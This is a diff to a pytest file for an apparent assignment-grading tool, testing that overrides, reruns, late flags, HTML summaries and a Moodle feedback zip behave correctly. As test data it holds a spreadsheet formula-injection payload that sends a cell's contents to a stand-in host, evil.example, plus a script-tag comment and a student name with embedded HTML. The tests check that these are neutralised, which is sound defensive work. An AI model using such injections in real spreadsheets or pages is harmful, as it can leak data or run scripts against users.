@@ -26,7 +26,8 @@ from corpus import CASES
 
 CASE = {"alice": "reference", "bob": "lesson-as-printed", "carol": "mse-loss"}
 DEADLINE = "2026-06-01T23:59:00+00:00"
-MOODLE_NAME = "Bob <b>Smith</b> & co"
+MOODLE_NAME = "Bob <b>Smith & co_x"
+BOB = MOODLE_NAME  # a Moodle download's student id is the name before the participant id
 INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"see")'
 HTML_COMMENT = "<script>alert('x')</script> well done"
 
@@ -87,7 +88,7 @@ def desk_class(tmp_path_factory, standin_file, warm_grader):
         writer.writerow(["student", "exercise", "score", "comment"])
         writer.writerow(["carol", "keras-dense", "77", INJECTED])
         writer.writerow(["erin", "", "50", "graded by hand: the file broke on upload"])
-        writer.writerow(["bob", "", "", HTML_COMMENT])
+        writer.writerow([BOB, "", "", HTML_COMMENT])
     stages["overrides"] = snapshot(warm_grader.grade(str(folder / "carol.ipynb"), "--overrides", str(table), *desk,
                                                      out=out))
     # The same overrides again, then a plain run of the whole class without them.
@@ -101,7 +102,7 @@ def rows_by_student(stage: Stage) -> dict[str, dict[str, str]]:
     return {row["student_id"]: row for row in stage.grades}
 
 
-EVERYONE = ["alice", "bob", "carol", "erin"]
+EVERYONE = sorted(["alice", BOB, "carol", "erin"])
 
 
 @pytest.mark.slow
@@ -112,10 +113,10 @@ def test_regrading_one_student_keeps_the_whole_class(desk_class):
         stage = stages[name]
         assert sorted(rows_by_student(stage)) == EVERYONE, name
         assert stage.summary["students"] == 4, name
-        for student in ("alice", "bob"):
-            assert student in stage.canvas or student == "bob", name  # bob has no Canvas id
-        for student in EVERYONE:
-            assert f">{student}<" in stage.summary_html or student == "bob", name
+        assert "alice" in stage.canvas and "Smith" not in stage.canvas, name  # bob has no Canvas id
+        for student in ("alice", "carol", "erin"):
+            assert f"<td>{student}<" in stage.summary_html, name
+        assert "<td>Bob &lt;b&gt;Smith &amp; co_x<" in stage.summary_html, name
     alone = stages["alone"]
     assert alone.summary["graded_this_run"] == 1 and alone.summary["kept_from_earlier_runs"] == 3
     assert "1 submission(s): 1 graded" in alone.printed
@@ -139,15 +140,15 @@ def test_overrides_change_the_score_not_the_graders_and_survive_reruns(desk_clas
         assert carol["comment"] == "'" + INJECTED, name  # kept, and never a formula
         erin = rows["erin"]
         assert erin["status"] == "invalid" and float(erin["score"]) == 50.0 and erin["auto_score"] == "", name
-        assert rows["bob"]["comment"] == HTML_COMMENT and rows["bob"]["override"] == "", name
-        assert rows["bob"]["score"] == before["bob"]["score"], name
+        assert rows[BOB]["comment"] == HTML_COMMENT and rows[BOB]["override"] == "", name
+        assert rows[BOB]["score"] == before[BOB]["score"], name
         # The Canvas export carries the final grade.
         canvas = list(csv.reader(io.StringIO(stages[name].canvas)))
         assert [row for row in canvas if row[0] == "alice"][0][-1] == rows["alice"]["score"]
     # Recorded once, with who and when; a re-run with the same file records nothing again.
     made = stages["overrides"].decisions
     assert [(kind, student) for kind, student, *_ in made] == [("override", "carol"), ("override", "erin"),
-                                                               ("comment", "bob")]
+                                                               ("comment", BOB)]
     assert all(by for *_, by in made)
     assert stages["again"].decisions == made and stages["plain"].decisions == made
     assert "recorded 3 decision(s)" in stages["overrides"].printed
@@ -170,7 +171,7 @@ def test_the_late_policy_and_extensions(desk_class):
     assert carol["late"] == "no" and carol["late_penalty"] == ""
     assert float(carol["score"]) == float(carol["auto_score"])
     # Without a time, the file name's word: bob's Moodle download says nothing.
-    assert rows["bob"]["late"] == ""
+    assert rows[BOB]["late"] == ""
 
 
 @pytest.mark.slow
@@ -194,7 +195,7 @@ def test_the_summary_leads_with_the_students(desk_class):
     table = page[page.index('id="students"'):page.index("Pass rate of every check")]
     assert "<th scope=\"col\">Late</th>" in table and "<th scope=\"col\">First mistake</th>" in table
     assert "late" in table and "not valid JSON" in table
-    assert "Bob &lt;b&gt;" not in table  # the id is the name as read; the HTML in it escaped wherever shown
+    assert "<b>Smith" not in table and "Bob &lt;b&gt;Smith" in table  # the id as read, its HTML escaped
 
 
 @pytest.mark.slow
@@ -204,7 +205,7 @@ def test_the_moodle_feedback_zip(desk_class):
     names = stages["first"].feedback
     with zipfile.ZipFile(out / "feedback-moodle.zip") as archive:
         names = archive.namelist()
-        folder = "Bob b Smith b co_4242_assignsubmission_file"
+        folder = "Bob b Smith co x_4242_assignsubmission_file"
         assert sorted(names) == [f"{folder}/grade-keras-dense.html", f"{folder}/report-keras-dense.html"]
         note = archive.read(f"{folder}/grade-keras-dense.html").decode()
     assert "&lt;script&gt;" in note and "<script>" not in note  # bob's comment, escaped
